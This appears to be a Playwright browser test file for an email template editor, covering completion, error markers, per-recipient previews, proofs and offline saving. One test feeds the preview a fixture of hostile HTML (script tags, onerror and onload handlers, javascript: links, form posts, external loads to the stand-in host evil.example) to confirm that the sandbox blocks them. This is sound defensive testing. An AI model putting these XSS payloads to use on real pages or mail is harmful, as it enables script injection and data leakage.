"""The editor of an e-mail's content: completion, findings at their lines, the preview as a real person, and a proof."""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from django.contrib.staticfiles import finders
from playwright.sync_api import FrameLocator, Locator, Page, expect

from campaigns.admin.canvas import BUILT
from campaigns.admin.page import campaign_url
from campaigns.drafts import read_draft, save_draft
from campaigns.models import ChannelConfiguration
from config.mailbox import Mailbox
from tests.browser.test_composing import looks
from tests.browser.visits import Visitor
from tests.config.admin.offices import Office, drop_working_tables, furnish, person
from tests.config.test_sink import sink

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]

"""A preview is rendered in a process of its own, for which a busy machine takes its time."""
LETTER = """<!doctype html>
<html>
<head>
  <style>
    @media (max-width: 480px) { .wide { display: none; } }
  </style>
</head>
<body style="margin: 0; background: #f4f4f5; font-family: Helvetica, Arial, sans-serif;">
  <table role="presentation" width="100%" cellpadding="0" cellspacing="0">
    <tr>
      <td align="center" style="padding: 24px 12px;">
        <table role="presentation" width="600" style="width: 100%; max-width: 600px; background: #ffffff;">
          <tr>
            <td><img src="https://cdn.shop.example/summer.jpg" width="600" height="220" alt="Summer sale"
                     style="width: 100%; height: auto; display: block;"></td>
          </tr>
          <tr>
            <td style="padding: 32px; font-size: 16px; line-height: 24px; color: #18181b;">
              <h1 id="greeting" style="margin: 0 0 16px; color: #b91c1c;">Hello {{ profile.name }},</h1>
              {% if profile.city == "Busan" %}
                <p>Our shop at Haeundae opens at nine.</p>
              {% else %}
                <p>We deliver to {{ profile.city }} for free.</p>
              {% endif %}
              <p class="wide">This is seen on wide screens alone.</p>
              <p><a href="https://shop.example/sale?city={{ profile.city | url_encode }}"
                    style="background: #b91c1c; color: #ffffff; padding: 12px 20px;">To the sale</a></p>
            </td>
          </tr>
          <tr>
            <td style="padding: 16px 32px 32px; font-size: 12px; color: #52525b;">
              {{ postal_address }}<br>
              <a href="{{ unsubscribe_url }}" style="color: #52525b;">Unsubscribe</a>
            </td>
          </tr>
        </table>
      </td>
    </tr>
  </table>
</body>
</html>
"""
CONTENT = {
    "subject": "{{ profile.name }}, summer is on sale",
    "preheader": "Up to half off, until Sunday",
    "html": LETTER,
}


@pytest.fixture
def office(live_server: object) -> Iterator[Office]:
    if finders.find(BUILT) is None:
        pytest.fail("The canvas is not built. Run: make canvas")
    yield furnish(person("Author"))
    drop_working_tables()


def write(office: Office, content: dict[str, Any]) -> None:
    draft = read_draft(office.draft.slug)
    parts = tuple(
        part.model_copy(update={"config": {**part.config, "content": content}}) if part.id == "mail" else part
        for part in draft.document.activities
    )
    save_draft(draft.campaign, draft.document.model_copy(update={"activities": parts}), if_match=draft.hash)


def open_editor(visitor: Visitor, office: Office, role: str = "Publisher") -> Page:
    person(role)
    visitor.sign_in(role.lower())
    visitor.go(campaign_url(office.draft, "canvas") + "#mail")
    button = "Look at the content" if role == "Viewer" else "Edit the content"
    visitor.page.get_by_role("button", name=button).click()
    expect(visitor.page.locator(".ct-dialog")).to_be_visible()
    expect(code(visitor.page)).to_be_visible()
    return visitor.page


@pytest.fixture
def editor(visitor: Visitor, office: Office) -> Page:
    write(office, CONTENT)
    return open_editor(visitor, office)


def code(page: Page, label: str = "Message (HTML)") -> Locator:
    return page.locator(f".ct-dialog .cm-content[aria-label='{label}']")


def shown(page: Page) -> FrameLocator:
    return page.locator(".ct-stage iframe:not(.ct-coming)").content_frame


def content_of(office: Office) -> dict[str, Any]:
    found: dict[str, Any] = read_draft(office.draft.slug).document.activity("mail").config["content"]
    return found


def is_saved(page: Page) -> None:
    expect(page.locator(".ct-dialog [data-saving=saved]")).to_be_visible()


def test_it_looks_well_in_light_and_dark_wide_and_narrow(
    editor: Page, visitor: Visitor, pictures: Path | None
) -> None:
    expect(shown(editor).locator("#greeting")).to_have_text("Hello Person 0,")
    assert looks(visitor, pictures, "content") == {}
    editor.set_viewport_size({"width": 390, "height": 900})
    editor.get_by_role("button", name="Preview").click()
    assert looks(visitor, pictures, "content-preview") == {}


def put_cursor(page: Page, label: str = "Message (HTML)", *, after: str = "") -> None:
    """At the end of the text, or of the first line that holds these words."""
    if after:
        code(page, label).locator(".cm-line", has_text=after).first.click()
        page.keyboard.press("End")
        return
    code(page, label).click()
    page.keyboard.press("Control+End")


def offered(page: Page) -> Locator:
    return page.locator(".cm-tooltip-autocomplete [role=option]")


def test_names_and_filters_of_this_place_are_completed(
    editor: Page, office: Office, visitor: Visitor, pictures: Path | None
) -> None:
    put_cursor(editor, after="is seen on wide")
    editor.keyboard.press("Enter")
    editor.keyboard.type("<p>From {{")
    expect(offered(editor).filter(has_text="profile.city")).to_be_visible()
    visitor.picture(pictures, "content-completion")
    editor.keyboard.type("cit")
    expect(offered(editor)).to_have_count(1)
    editor.keyboard.press("Enter")
    editor.keyboard.type("| upc")
    expect(offered(editor).first).to_contain_text("upcase")
    editor.wait_for_timeout(200)
    visitor.picture(pictures, "content-filters")
    editor.keyboard.press("Enter")
    expect(shown(editor).get_by_text("From BUSAN")).to_be_visible()
    is_saved(editor)
    assert "<p>From {{ profile.city | upcase }}</p>" in content_of(office)["html"]


def test_a_broken_template_is_marked_at_its_line(
    editor: Page, visitor: Visitor, pictures: Path | None
) -> None:
    expect(shown(editor).locator("#greeting")).to_be_visible()
    put_cursor(editor, after="Our shop at Haeundae")
    editor.keyboard.type("{% if profile.city | shout %}{{ profile.nmae }}")
    worst = editor.locator(".ct-worst")
    expect(worst).to_contain_text("cannot be read")
    expect(editor.locator(".cm-lint-marker-error")).to_be_visible()
    expect(editor.get_by_text("This is how it looked before the last changes")).to_be_visible()
    expect(shown(editor).locator("#greeting")).to_be_visible()
    visitor.picture(pictures, "content-broken")
    put_cursor(editor)
    button = worst.get_by_role("button").first
    line = int((button.inner_text()).split()[-1])
    button.click()
    assert line == LETTER.split("Our shop", maxsplit=1)[0].count("\n") + 1
    expect(editor.locator(".cm-lineNumbers .cm-activeLineGutter")).to_have_text(str(line))


ELSEWHERE = "https://evil.example"
HOSTILE = """<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/r">
<link rel="stylesheet" href="https://evil.example/l.css"><script src="https://evil.example/s.js"></script>
<style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/b.png) }
@font-face { font-family: x; src: url("https://evil.example/f.woff") } p { font-family: x }</style></head>
<body onload="top.hacked = 1" background="https://evil.example/g.png">
<p id="there">{{ profile.name }}</p>
<script>top.hacked = 1; location = "https://evil.example/x"</script>
<img src="https://evil.example/p.png" srcset="https://evil.example/2.png 2x" onerror="top.hacked = 1" alt="">
<img src=x onerror=alert(1)><svg onload="top.hacked = 1"><image href="https://evil.example/v.png"/></svg>
<form id="f" action="https://evil.example/post" method="post">
<input name="a" autofocus><button id="send">Send</button></form>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.hacked = 1</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<video src="https://evil.example/m" autoplay></video>
<a id="js" href="javascript:top.hacked=1">script</a>
<a id="out" href="https://evil.example/away">away</a> <a id="top" href="https://evil.example/away" target="_top">away</a>
<div style="background-image: url('https://evil.example/d.png')">x</div><details open ontoggle="top.hacked = 1">d</details>
<a href="{{ unsubscribe_url }}">u</a></body></html>"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another server, and what it was asked for."""
    asked: list[str] = []

    class Noted(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

    server = ThreadingHTTPServer(("127.0.0.1", 0), Noted)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("is_cleaned", [True, False], ids=["as shown", "by the frame and its policy alone"])
def test_hostile_content_does_nothing_and_asks_nobody(
    visitor: Visitor,
    office: Office,
    monkeypatch: pytest.MonkeyPatch,
    elsewhere: tuple[str, list[str]],
    *,
    is_cleaned: bool,
) -> None:
    other, asked = elsewhere
    if not is_cleaned:
        monkeypatch.setattr("campaigns.admin.email_preview.shown_document", lambda html, _scheme: html)
    html = HOSTILE.replace(ELSEWHERE, other)
    write(office, {"subject": "<img src=x onerror=alert(1)>", "preheader": "<b>no</b>", "html": html})
    wanted: list[str] = []
    alerts: list[str] = []
    visitor.page.on("request", lambda request: wanted.append(request.url))
    visitor.page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    page = open_editor(visitor, office)
    frame = shown(page)
    expect(frame.locator("#there")).to_have_text("Person 0")
    page.wait_for_timeout(1_000)
    before = list(visitor.complaints)
    for link in ("#js", "#top", "#out"):
        frame.locator(link).click()
    page.wait_for_timeout(1_000)
    expect(page.locator(".ct-dialog")).to_be_visible()
    expect(page.locator(".ct-dialog .ct-inbox strong")).to_have_text("<img src=x onerror=alert(1)>")
    assert (asked, alerts, page.evaluate("window.hacked")) == ([], [], None)
    assert page.url.startswith(visitor.base)
    if is_cleaned:
        assert before == [], "there is nothing for the browser to refuse"
        assert [url for url in wanted if not url.startswith((visitor.base, "data:", "about:"))] == []
    visitor.complaints.clear()


def test_it_is_shown_for_a_person_of_ones_choice(
    editor: Page, visitor: Visitor, pictures: Path | None
) -> None:
    expect(shown(editor).locator("#greeting")).to_have_text("Hello Person 0,")
    editor.get_by_role("button", name="Next person").click()
    expect(shown(editor).locator("#greeting")).to_have_text("Hello Person 1,")
    editor.get_by_role("button", name="Shown for").click()
    expect(editor.get_by_text("these are people of the table")).to_be_visible()
    visitor.picture(pictures, "content-people")
    editor.get_by_label("Type a name, a place or a key").fill("person 2")
    expect(editor.locator(".ct-people button")).to_have_count(1)
    editor.locator(".ct-people button").press("Enter")
    expect(shown(editor).locator("#greeting")).to_have_text("Hello Person 2,")
    expect(editor.locator(".ct-dialog .ct-inbox strong")).to_have_text("Person 2, summer is on sale")
    editor.get_by_role("button", name="Dark colours").click()
    editor.get_by_role("button", name="Mobile").click()
    expect(shown(editor).locator(".wide")).to_be_hidden()
    expect(shown(editor).locator("#greeting")).to_be_visible()
    visitor.picture(pictures, "content-dark-mobile")
    editor.get_by_role("button", name="Desktop").click()
    editor.get_by_label("Preview").get_by_role("button", name="Plain text").click()
    expect(editor.get_by_label("Message (plain text)")).to_contain_text("Hello Person 2,")
    visitor.picture(pictures, "content-text")
    editor.get_by_role("button", name="1 link").click()
    visitor.picture(pictures, "content-links")
    editor.get_by_role("button", name="Go to line 26").click()
    expect(code(editor)).to_be_focused()


def test_a_proof_of_what_was_just_typed_arrives(
    editor: Page, office: Office, visitor: Visitor, pictures: Path | None, tmp_path: Path
) -> None:
    with sink(tmp_path) as (port, _process):
        config = {"host": "127.0.0.1", "port": port, "security": "none"}
        ChannelConfiguration.objects.update(provider="smtp", provider_config=config)
        editor.get_by_role("button", name="Next person").click()
        expect(shown(editor).locator("#greeting")).to_have_text("Hello Person 1,")
        put_cursor(editor, "Subject")
        editor.keyboard.type("!")
        editor.get_by_role("button", name="Proof").click()
        editor.get_by_label("Send to").fill("ann@office.example, not an address")
        editor.get_by_role("button", name="Send a proof").click()
        expect(editor.get_by_text("cannot be written to")).to_be_visible()
        visitor.complaints.clear()
        editor.get_by_label("Send to").fill("ann@office.example; bo@office.example")
        editor.get_by_role("button", name="Send a proof").click()
        expect(editor.get_by_text("The mail server has taken it.")).to_have_count(2)
        visitor.picture(pictures, "content-proof")
        box = Mailbox(tmp_path)
        (entry,) = box.messages_for("ann@office.example", limit=5)
        message = box.read(entry)
    assert "Person 1, summer is on sale!" in message.subject
    assert "Hello Person 1," in message.html
    assert content_of(office)["subject"].endswith("sale!")


def test_it_is_left_and_undone_by_keys(editor: Page, office: Office) -> None:
    put_cursor(editor)
    editor.keyboard.type("<!-- a")
    editor.keyboard.press("Escape")
    editor.keyboard.press("Escape")
    expect(editor.locator(".ct-dialog")).to_be_visible()
    editor.keyboard.press("Tab")
    expect(code(editor)).not_to_be_focused()
    editor.keyboard.press("Escape")
    expect(editor.locator(".ct-dialog")).to_have_count(0)
    expect(editor.locator(".cv-drawer")).to_be_visible()
    expect(editor.get_by_role("button", name="Edit the content")).to_be_focused()
    expect(editor.locator(".cv-top [data-saving=saved]")).to_be_visible()
    assert "<!-- a" in content_of(office)["html"]
    editor.get_by_role("button", name="Undo").click()
    expect(editor.locator(".cv-top [data-saving=saved]")).to_be_visible()
    editor.wait_for_timeout(1_500)
    assert content_of(office)["html"] == LETTER


def test_a_first_e_mail_begins_with_a_layout(visitor: Visitor, office: Office, pictures: Path | None) -> None:
    write(office, {"subject": "", "html": ""})
    page = open_editor(visitor, office)
    visitor.picture(pictures, "content-blank")
    page.get_by_role("button", name="Begin with a layout").click()
    put_cursor(page, "Subject")
    page.keyboard.type("Hello ")
    page.get_by_role("button", name="Personalise").click()
    visitor.picture(pictures, "content-personalise")
    page.keyboard.type("name")
    page.keyboard.press("Enter")
    expect(page.locator(".ct-dialog .ct-inbox strong")).to_have_text("Hello Person 0")
    put_cursor(page, after="Hello,")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Condition").click()
    page.keyboard.type("profile.city")
    expect(page.get_by_text("No problems found")).to_be_visible()
    is_saved(page)
    assert "{% endif %}" in content_of(office)["html"]
    page.get_by_role("button", name="Done").click()
    expect(page.locator(".ct-card")).to_contain_text("Hello Person 0")
    page.wait_for_timeout(800)
    visitor.picture(pictures, "content-drawer")


def test_who_may_only_look_sees_no_personal_data(
    visitor: Visitor, office: Office, pictures: Path | None
) -> None:
    office.things["table"].fields.filter(slug__in=("name", "email")).update(personal=True)
    write(office, CONTENT)
    page = open_editor(visitor, office, "Viewer")
    expect(shown(page).locator("#greeting")).to_have_text("Hello •••,")
    expect(code(page)).to_have_attribute("aria-readonly", "true")
    expect(page.get_by_role("group", name="Insert")).to_have_count(0)
    visitor.picture(pictures, "content-read-only")


def test_without_a_server_nothing_that_is_typed_is_lost(
    editor: Page, visitor: Visitor, office: Office
) -> None:
    expect(shown(editor).locator("#greeting")).to_be_visible()
    editor.context.set_offline(True)
    put_cursor(editor, "Preheader")
    editor.keyboard.type(" at the sea")
    expect(editor.get_by_text("The server did not answer")).to_be_visible()
    visitor.complaints.clear()
    editor.context.set_offline(False)
    expect(editor.locator(".ct-dialog .ct-inbox-beside")).to_have_text(
        "Up to half off, until Sunday at the sea"
    )
    is_saved(editor)
    visitor.complaints.clear()
    assert content_of(office)["preheader"].endswith(" at the sea")


def test_mjml_is_written_and_seen_as_html(visitor: Visitor, office: Office, pictures: Path | None) -> None:
    """Nobody says that it is MJML: what begins with <mjml> is."""
    write(office, {"subject": "Hello"})
    page = open_editor(visitor, office)
    page.get_by_role("button", name="Begin in MJML").click()
    expect(shown(page).get_by_text("Hello,")).to_be_visible()
    put_cursor(page, "Message (MJML)", after="Hello,")
    page.keyboard.press("Enter")
    page.keyboard.type("<mj-but")
    expect(offered(page).first).to_contain_text("mj-button")
    page.wait_for_timeout(200)
    page.keyboard.press("Enter")
    page.keyboard.type(' href="https://example.com/{{ profile.id }}">Look, {{ profile.name }}')
    expect(shown(page).get_by_role("link", name="Look, Person 0")).to_be_visible()
    assert looks(visitor, pictures, "content-mjml") == {}
    page.get_by_role("button", name="1 link").click()
    page.get_by_role("button", name="Go to line").last.click()
    expect(page.locator(".cm-activeLine")).to_contain_text("mj-button")
    page.keyboard.press("End")
    page.keyboard.type("<mj-txt>x</mj-txt>")
    expect(page.locator(".ct-worst")).to_contain_text("Did you mean <mj-text>?")
    visitor.picture(pictures, "content-mjml-broken")
    is_saved(page)
    assert "<mj-txt>" in content_of(office)["mjml"]
    assert "html" not in content_of(office)
